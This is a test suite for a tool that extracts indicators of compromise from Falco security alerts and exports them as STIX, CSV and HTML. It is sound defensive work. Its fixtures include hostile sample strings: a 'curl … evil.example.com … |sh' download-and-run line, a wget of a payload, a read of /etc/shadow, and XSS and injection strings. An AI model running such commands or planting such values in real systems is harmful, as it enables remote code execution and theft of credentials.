"""Indicators of compromise: extraction from fields and output text, caps, and the exports."""

from __future__ import annotations

import json

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from falco_lab.analysis.iocs import (
    IOC_COLUMNS,
    IocLimits,
    classify_ip,
    extract_iocs,
    ioc_records,
    iocs_more,
    text_indicators,
)
from tests.analysis.frames import alerts


def _pairs(iocs: pd.DataFrame) -> set[tuple[str, str]]:
    return set(zip(iocs["type"].tolist(), iocs["value"].tolist(), strict=True))


def _row(iocs: pd.DataFrame, kind: str, value: str) -> pd.Series:
    match = iocs[(iocs["type"] == kind) & (iocs["value"] == value)]
    assert len(match) == 1, f"{kind} {value} not found once in {_pairs(iocs)}"
    return match.iloc[0]


# -- output fields -----------------------------------------------------------------------


def test_connection_fields_give_the_ip_with_its_port():
    iocs = extract_iocs(alerts({"fd.sip": "203.0.113.9", "fd.sport": 4444, "output": "x"}), output_text=False)
    row = _row(iocs, "ipv4", "203.0.113.9")
    assert row["ports"] == [4444] and row["sources"] == ["fd.sip"]


def test_resolved_server_name_is_a_domain():
    iocs = extract_iocs(alerts({"fd.sip.name": "Pool.MineXMR.com."}), output_text=False)
    assert _pairs(iocs) == {("domain", "pool.minexmr.com")}


def test_socket_fd_name_gives_both_endpoints():
    iocs = extract_iocs(alerts({"fd.name": "10.1.2.3:40000->198.51.100.7:443"}), output_text=False)
    assert _row(iocs, "ipv4", "198.51.100.7")["ports"] == [443]
    assert _row(iocs, "ipv4", "10.1.2.3")["scope"] == "private"


def test_file_and_executable_paths_are_files():
    iocs = extract_iocs(
        alerts({"fd.name": "/etc/shadow", "proc.exepath": "/tmp/.x/miner"}), output_text=False
    )
    assert _pairs(iocs) == {("file", "/etc/shadow"), ("file", "/tmp/.x/miner")}


def test_relative_proc_exe_is_not_a_file():
    iocs = extract_iocs(alerts({"proc.exe": "sh"}), output_text=False)
    assert iocs.empty


def test_evt_arg_path_is_a_file_and_evt_arg_address_is_searched():
    df = alerts({"evt.arg.pathname": "/usr/bin/.hidden", "evt.arg.tuple": "10.0.0.5:1234->192.0.2.44:80"})
    iocs = extract_iocs(df, output_text=False)
    assert ("file", "/usr/bin/.hidden") in _pairs(iocs)
    assert _row(iocs, "ipv4", "192.0.2.44")["sources"] == ["evt.arg.tuple"]


def test_image_reference_joins_repository_tag_and_digest():
    digest = "sha256:" + "ab" * 32
    df = alerts(
        {
            "container.image.repository": "ghcr.io/evil/miner",
            "container.image.tag": "1.0",
            "container.image.digest": digest,
        }
    )
    assert _pairs(extract_iocs(df, output_text=False)) == {("image", f"ghcr.io/evil/miner:1.0@{digest}")}


def test_user_names_of_runtime_and_audit_alerts():
    df = alerts({"user.name": "root"}, {"ka.user.name": "system:serviceaccount:shop:api"})
    assert _pairs(extract_iocs(df, output_text=False)) == {
        ("user", "root"),
        ("user", "system:serviceaccount:shop:api"),
    }


def test_missing_markers_are_not_indicators():
    df = alerts({"user.name": "<NA>", "fd.name": "<NA>", "fd.sip": "N/A"})
    assert extract_iocs(df, output_text=False).empty


def test_hash_field_of_the_right_length_is_a_hash():
    sha = "0f" * 32
    df = alerts({"custom.sha256": sha.upper()}, {"custom.sha256": "not-a-hash"})
    assert _pairs(extract_iocs(df, output_text=False)) == {("sha256", sha)}


# -- output text ---------------------------------------------------------------------------


def test_text_ipv4_with_port():
    assert text_indicators("connect to 198.51.100.23:8443 now") == [("ipv4", "198.51.100.23", 8443)]


@pytest.mark.parametrize(
    "text",
    [
        "13:44:05.478445995: Critical event",  # Falco's time prefix
        "version 1.2.3.4.5 released",  # a longer dotted number
        "build 01.02.03.04",  # leading zeros: a date or version
        "v1.2.3.4",  # a word with digits
        "256.1.1.1 999.0.0.1",  # octets out of range
        "falco.yaml app.sh lib.so k8s.ns.name=default proc.name=java",  # files, fields
        "--config=/etc/app/conf.d/x.yaml",  # an option's path is not a written file
        "image=docker.io/library/alpine",  # a registry in an image reference
        "0.0.0.0:80 and :: bound",  # unspecified addresses
    ],
)
def test_text_without_indicators_gives_none(text):
    assert text_indicators(text) == []


def test_url_gives_url_and_host_domain():
    found = text_indicators("cmdline=curl -s http://evil.example.com:8080/x.sh|sh")
    assert ("url", "http://evil.example.com:8080/x.sh", None) in found
    assert ("domain", "evil.example.com", 8080) in found


def test_url_with_ip_host_gives_the_ip():
    found = text_indicators("wget https://203.0.113.5/payload).")
    assert found == [("url", "https://203.0.113.5/payload", None), ("ipv4", "203.0.113.5", None)]


def test_domain_in_text_needs_a_known_top_level_domain():
    assert text_indicators("nslookup pool.minexmr.com") == [("domain", "pool.minexmr.com", None)]
    assert text_indicators("nslookup cache.internal") == []


def test_ipv6_in_text():
    found = text_indicators("to 2001:db8::7 and [2001:db8::8]:443")
    assert found == [("ipv6", "2001:db8::7", None), ("ipv6", "2001:db8::8", 443)]


def test_file_path_in_text_only_as_a_file_key():
    assert text_indicators("opened for writing (file=/bin/hack cmd=touch /bin/x)") == [
        ("file", "/bin/hack", None)
    ]


def test_hash_in_text_after_its_algorithm():
    digest = "a1" * 32
    assert text_indicators(f"binary sha256={digest} seen") == [("sha256", digest, None)]
    assert text_indicators(f"binary md5={digest} seen") == []  # wrong length for md5


@pytest.mark.parametrize(
    ("address", "scope"),
    [
        ("8.8.8.8", "public"),
        ("10.0.0.1", "private"),
        ("192.168.1.1", "private"),
        ("127.0.0.1", "loopback"),
        ("169.254.169.254", "link-local"),
        ("fd00::1", "private"),
        ("100.64.3.4", "private"),
        ("203.0.113.66", "documentation"),
        ("2001:db8::1", "documentation"),
        ("240.0.0.1", "reserved"),
        ("2606:4700::1111", "public"),
        ("0.0.0.0", None),
        ("not-an-ip", None),
    ],
)
def test_ip_scope(address, scope):
    assert classify_ip(address) == scope


# -- aggregation -----------------------------------------------------------------------------


def test_one_row_per_indicator_with_first_last_count_pods_rules():
    df = alerts(
        {"fd.sip": "203.0.113.9", "k8s.ns.name": "shop", "k8s.pod.name": "api-1", "rule": "C2", "t": 10},
        {"fd.sip": "203.0.113.9", "k8s.ns.name": "shop", "k8s.pod.name": "api-2", "rule": "Egress", "t": 5},
        {"fd.sip": "203.0.113.9", "k8s.ns.name": "shop", "k8s.pod.name": "api-1", "rule": "C2", "t": 20},
    )
    row = _row(extract_iocs(df, output_text=False), "ipv4", "203.0.113.9")
    assert row["count"] == 3
    assert row["first_seen"] == pd.Timestamp("2026-11-27T10:00:05Z")
    assert row["last_seen"] == pd.Timestamp("2026-11-27T10:00:20Z")
    assert row["pods"] == ["shop/api-1", "shop/api-2"] and row["pod_count"] == 2
    assert row["rules"] == ["C2", "Egress"] and row["rule_count"] == 2


def test_indicator_in_field_and_text_of_one_alert_counts_once():
    df = alerts({"fd.name": "/bin/hack", "output": "write (file=/bin/hack)"})
    row = _row(extract_iocs(df), "file", "/bin/hack")
    assert row["count"] == 1 and row["sources"] == ["fd.name", "output"]


def test_pods_list_is_capped_and_total_kept():
    df = alerts(*({"user.name": "root", "k8s.pod.name": f"p{i}"} for i in range(7)))
    row = _row(extract_iocs(df, limits=IocLimits(max_pods=3), output_text=False), "user", "root")
    assert row["pods"] == ["p0", "p1", "p2"] and row["pod_count"] == 7


def test_rows_are_capped_with_the_number_left_out():
    df = alerts(*({"fd.name": f"/tmp/f{i}"} for i in range(5)))
    iocs = extract_iocs(df, limits=IocLimits(max_rows=2), output_text=False)
    assert len(iocs) == 2 and iocs_more(iocs) == 3 and iocs.attrs["iocs_total"] == 5


def test_no_row_cap_when_max_rows_is_none():
    df = alerts(*({"fd.name": f"/tmp/f{i}"} for i in range(5)))
    iocs = extract_iocs(df, limits=IocLimits(max_rows=None), output_text=False)
    assert len(iocs) == 5 and iocs_more(iocs) == 0


def test_most_severe_indicators_come_first():
    df = alerts(
        {"fd.name": "/tmp/low", "priority": "Notice", "t": 0},
        {"fd.name": "/tmp/high", "priority": "Critical", "t": 5},
    )
    assert extract_iocs(df, output_text=False)["value"].tolist() == ["/tmp/high", "/tmp/low"]
    assert str(extract_iocs(df, output_text=False)["priority"].iloc[0]) == "Critical"


def test_result_is_typed_and_has_the_documented_columns():
    iocs = extract_iocs(alerts({"fd.sip": "203.0.113.9"}))
    assert tuple(iocs.columns) == IOC_COLUMNS
    assert str(iocs["first_seen"].dtype) == "datetime64[ns, UTC]"
    assert isinstance(iocs["value"].dtype, pd.StringDtype) and iocs["count"].dtype == "int64"


def test_empty_frame_gives_empty_typed_result():
    iocs = extract_iocs(alerts())
    assert iocs.empty and tuple(iocs.columns) == IOC_COLUMNS and iocs_more(iocs) == 0


def test_attacker_value_is_kept_verbatim():
    evil = "/tmp/<script>alert('x')</script>\"'"
    iocs = extract_iocs(alerts({"fd.name": evil}), output_text=False)
    assert iocs["value"].tolist() == [evil]


def test_records_are_json_ready():
    records = ioc_records(extract_iocs(alerts({"fd.sip": "203.0.113.9", "fd.sport": 22})))
    assert records[0]["value"] == "203.0.113.9" and records[0]["ports"] == [22]
    assert records[0]["first_seen"] == "2026-11-27T10:00:00.000000000Z"


def test_simulated_incident_has_its_attack_indicators():
    from tests.analysis.incidents import incident

    df, info = incident(0, "project")
    iocs = extract_iocs(df, limits=IocLimits(max_rows=None))
    attacked = f"{info['namespace']}/{info['pod']}"
    in_pod = iocs[iocs["pods"].map(lambda pods: attacked in pods)]
    assert {"ipv4", "file"} <= set(in_pod["type"]), in_pod[["type", "value"]]


# -- STIX 2.1 --------------------------------------------------------------------------------

EVERY_TYPE = (
    {"fd.sip": "203.0.113.9", "fd.sport": 4444, "k8s.ns.name": "shop", "k8s.pod.name": "api-1"},
    {"fd.sip": "2001:db8::9", "fd.sip.name": "c2.example.com"},
    {"output": "curl http://evil.example.com/x.sh", "proc.exepath": "/tmp/.x/miner"},
    {"custom.sha256": "0f" * 32, "custom.md5": "1e" * 16, "custom.sha1": "2d" * 20},
    {"container.image.repository": "ghcr.io/evil/miner", "container.image.tag": "1.0", "user.name": "root"},
)


def _bundle(df: pd.DataFrame, **kw) -> dict:
    from falco_lab.analysis.stix import stix_bundle

    return stix_bundle(extract_iocs(df, **kw))


def test_stix_bundle_is_parsed_by_the_stix2_library_without_custom_content():
    import stix2  # a dev dependency: the bundle is checked by the reference implementation

    bundle = _bundle(alerts(*EVERY_TYPE))
    parsed = stix2.parse(json.dumps(bundle), allow_custom=False)
    kinds = [o.type for o in parsed.objects]
    assert kinds.count("indicator") == kinds.count("sighting") == len(extract_iocs(alerts(*EVERY_TYPE)))
    assert {"ipv4", "ipv6", "domain", "url", "file", "sha256", "sha1", "md5", "image", "user"} == {
        o.labels[1].split(":", 1)[1] for o in parsed.objects if o.type == "indicator"
    }


def test_stix_bundle_passes_the_stix_validator():
    import stix2validator as validator

    results = validator.validate_string(
        json.dumps(_bundle(alerts(*EVERY_TYPE))), validator.ValidationOptions(version="2.1")
    )
    assert results.is_valid
    # the one recommendation not followed: identifiers are UUIDv5 (stable), not random UUIDv4
    assert results.warnings and all("{103} Given ID value" in w for w in results.warnings)


def test_stix_sighting_carries_first_last_and_count():
    bundle = _bundle(alerts({"fd.sip": "203.0.113.9", "t": 1}, {"fd.sip": "203.0.113.9", "t": 61.5}))
    (sighting,) = [o for o in bundle["objects"] if o["type"] == "sighting"]
    assert sighting["first_seen"] == "2026-11-27T10:00:01.000Z"
    assert sighting["last_seen"] == "2026-11-27T10:01:01.500Z"
    assert sighting["count"] == 2


def test_stix_ids_are_stable_across_runs():
    first = json.dumps(_bundle(alerts(*EVERY_TYPE)), sort_keys=True)
    assert json.dumps(_bundle(alerts(*EVERY_TYPE)), sort_keys=True) == first


def test_stix_indicator_id_depends_on_type_and_value_only():
    one = _bundle(alerts({"fd.sip": "203.0.113.9", "rule": "A"}))
    two = _bundle(alerts({"fd.sip": "203.0.113.9", "rule": "B", "t": 99}))
    ids = [[o["id"] for o in b["objects"] if o["type"] == "indicator"] for b in (one, two)]
    assert ids[0] == ids[1]


@pytest.mark.parametrize(
    ("kind", "value", "pattern"),
    [
        ("ipv4", "203.0.113.9", "[ipv4-addr:value = '203.0.113.9']"),
        ("domain", "c2.example.com", "[domain-name:value = 'c2.example.com']"),
        ("sha256", "ab" * 32, f"[file:hashes.'SHA-256' = '{'ab' * 32}']"),
        ("file", "/bin/hack", "[file:name = 'hack' AND file:parent_directory_ref.path = '/bin']"),
        ("file", "/hack", "[file:name = 'hack' AND file:parent_directory_ref.path = '/']"),
    ],
)
def test_stix_patterns(kind, value, pattern):
    from falco_lab.analysis.stix import stix_pattern

    assert stix_pattern(kind, value) == pattern


def test_stix_pattern_escapes_quotes_and_backslashes_of_attacker_values():
    import stix2patterns.v21.pattern as stix2patterns

    from falco_lab.analysis.stix import stix_pattern

    evil = "/tmp/x' OR file:name = 'y\\'] AND [a:b = 'c"
    pattern = stix_pattern("file", evil)
    inspected = stix2patterns.Pattern(pattern).inspect()
    values = [c[2] for c in inspected.comparisons["file"]]
    assert values == ["'x\\' OR file:name = \\'y\\\\\\'] AND [a:b = \\'c'", "'/tmp'"]


def test_stix_note_says_how_many_indicators_were_left_out():
    bundle = _bundle(alerts(*({"fd.name": f"/tmp/f{i}"} for i in range(5))), limits=IocLimits(max_rows=2))
    (note,) = [o for o in bundle["objects"] if o["type"] == "note"]
    assert note["abstract"] == "3 more indicator(s) not included"


def test_stix_rejects_an_unknown_indicator_type():
    from falco_lab.analysis.stix import stix_pattern

    with pytest.raises(ValueError, match="no STIX pattern for indicator type 'mac'"):
        stix_pattern("mac", "00:11:22:33:44:55")


# -- falco-lab iocs ----------------------------------------------------------------------------


def _alert_line(**fields: object) -> str:
    output = str(fields.pop("output", "alert"))
    return json.dumps(
        {
            "time": "2026-11-27T10:00:00.123456789Z",
            "rule": "Test rule",
            "priority": "Critical",
            "source": "syscall",
            "hostname": "node-1",
            "output": output,
            "output_fields": fields,
        }
    )


def _events(tmp_path, *lines: str):
    path = tmp_path / "events.jsonl"
    path.write_text("".join(line + "\n" for line in lines))
    return path


def test_cli_json_lists_indicators_with_totals(tmp_path, capsys):
    from falco_lab.cli import main

    path = _events(tmp_path, _alert_line(**{"fd.sip": "203.0.113.9", "fd.sport": 22}))
    assert main(["iocs", str(path)]) == 0
    document = json.loads(capsys.readouterr().out)
    assert document["alerts"] == 1 and document["total"] == document["shown"] == 1 and document["more"] == 0
    assert document["indicators"][0]["value"] == "203.0.113.9"
    assert document["indicators"][0]["first_seen"] == "2026-11-27T10:00:00.123456789Z"


def test_cli_writes_stix_to_a_file(tmp_path, capsys):
    from falco_lab.cli import main

    path = _events(tmp_path, _alert_line(**{"fd.sip": "203.0.113.9"}))
    out = tmp_path / "iocs.stix.json"
    assert main(["iocs", str(path), "--format", "stix", "-o", str(out)]) == 0
    assert json.loads(out.read_text())["type"] == "bundle"
    assert "wrote" in capsys.readouterr().err


def test_cli_csv_defuses_spreadsheet_formulas(tmp_path, capsys):
    import csv
    import io

    from falco_lab.cli import main

    path = _events(tmp_path, _alert_line(**{"user.name": '=HYPERLINK("http://x")'}))
    assert main(["iocs", str(path), "--format", "csv"]) == 0
    rows = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert rows[0]["type"] == "user" and rows[0]["value"] == '\'=HYPERLINK("http://x")'


def test_cli_says_how_many_indicators_were_left_out(tmp_path, capsys):
    from falco_lab.cli import main

    path = _events(tmp_path, *(_alert_line(**{"fd.name": f"/tmp/f{i}"}) for i in range(4)))
    assert main(["iocs", str(path), "--max-rows", "1", "--fields-only"]) == 0
    captured = capsys.readouterr()
    assert json.loads(captured.out)["more"] == 3
    assert "3 more indicator(s) not listed" in captured.err


def test_cli_missing_file_is_an_error_naming_it(tmp_path, capsys):
    from falco_lab.cli import main

    assert main(["iocs", str(tmp_path / "nope.jsonl")]) == 1
    assert "nope.jsonl: cannot read" in capsys.readouterr().err


def test_cli_bad_record_is_named_by_file_and_line(tmp_path, capsys):
    from falco_lab.cli import main

    path = _events(tmp_path, _alert_line(**{"fd.sip": "203.0.113.9"}), "{not json")
    assert main(["iocs", str(path)]) == 0
    assert f"{path}:2" in capsys.readouterr().err


def test_cli_no_alerts_is_an_error(tmp_path, capsys):
    from falco_lab.cli import main

    assert main(["iocs", str(_events(tmp_path))]) == 1
    assert "no alerts" in capsys.readouterr().err


def test_cli_negative_max_rows_is_rejected(tmp_path, capsys):
    from falco_lab.cli import main

    assert main(["iocs", str(_events(tmp_path, _alert_line())), "--max-rows", "-1"]) == 2
    assert "--max-rows" in capsys.readouterr().err


# -- the report's section -----------------------------------------------------------------------


def _iocs_section(html: str) -> str:
    start = html.index('<section id="iocs">')
    return html[start : html.index("</section>", start)]


def test_report_lists_indicators_escaped():
    from falco_lab.analysis.report import build_report

    evil = "/tmp/<img src=x onerror=alert(1)>"
    body = _iocs_section(build_report(alerts({"fd.name": evil, "fd.sip": "203.0.113.9", "fd.sport": 4444})))
    assert "/tmp/&lt;img src=x onerror=alert(1)&gt;" in body and "<img" not in body
    assert "<td>ipv4</td><td>203.0.113.9</td><td>documentation</td><td>4444</td>" in body


def test_report_caps_the_indicator_table_and_says_how_many_more():
    from falco_lab.analysis.report import build_report
    from falco_lab.analysis.report.sections.iocs import MAX_IOC_ROWS

    body = _iocs_section(build_report(alerts(*({"fd.name": f"/tmp/f{i}"} for i in range(MAX_IOC_ROWS + 7)))))
    assert body.count("<tr>") == MAX_IOC_ROWS + 1  # the header row, then the indicators
    assert f"7 more indicator(s) not shown (of {MAX_IOC_ROWS + 7})" in body


def test_report_names_capped_pods_with_the_count_left_out():
    from falco_lab.analysis.report import build_report

    df = alerts(*({"user.name": "root", "k8s.pod.name": f"p{i}"} for i in range(5)))
    assert "p0, p1, p2 and 2 more" in _iocs_section(build_report(df))


def test_audit_and_cloud_source_addresses_are_ips():
    df = alerts(
        {"source": "k8s_audit", "ka.sourceips": ["198.51.100.4", "10.0.0.9"], "ka.user.name": "alice"},
        {"source": "aws_cloudtrail", "ct.srcip": "203.0.113.77", "ct.user": "bob"},
    )
    assert _pairs(extract_iocs(df, output_text=False)) == {
        ("ipv4", "198.51.100.4"),
        ("ipv4", "10.0.0.9"),
        ("ipv4", "203.0.113.77"),
        ("user", "alice"),
        ("user", "bob"),
    }


_PIECES = [
    *"0123456789abcdefxyz.:/-_@=[]() \t'\"<>Ωé",
    "http://",
    ".com",
    "sha256=",
    "file=/",
    "::",
    "10.0.0.",
]
_TRICKY = st.lists(st.sampled_from(_PIECES), max_size=30).map("".join)


@settings(max_examples=60, deadline=None)
@given(st.lists(_TRICKY, min_size=1, max_size=4))
def test_duckdb_and_python_find_the_same_text_indicators(texts):
    from falco_lab.analysis.iocs import _text_pairs

    df = alerts(*({"output": t} for t in texts))
    pairs = _text_pairs(df)
    by_duckdb = {(int(r), k, v) for r, k, v in zip(pairs["row"], pairs["type"], pairs["value"], strict=True)}
    by_python = {(i, k, v) for i, t in enumerate(texts) for k, v, _ in text_indicators(t)}
    assert by_duckdb == by_python


def test_network_indicators_and_external_addresses_come_first_within_a_priority():
    df = alerts(
        {"user.name": "root", "t": 0},
        {"fd.name": "/tmp/x", "t": 1},
        {"fd.sip": "10.0.0.5", "t": 2},
        {"fd.sip": "198.51.100.7", "t": 3},
    )
    assert extract_iocs(df, output_text=False)["value"].tolist() == [
        "198.51.100.7",
        "10.0.0.5",
        "/tmp/x",
        "root",
    ]
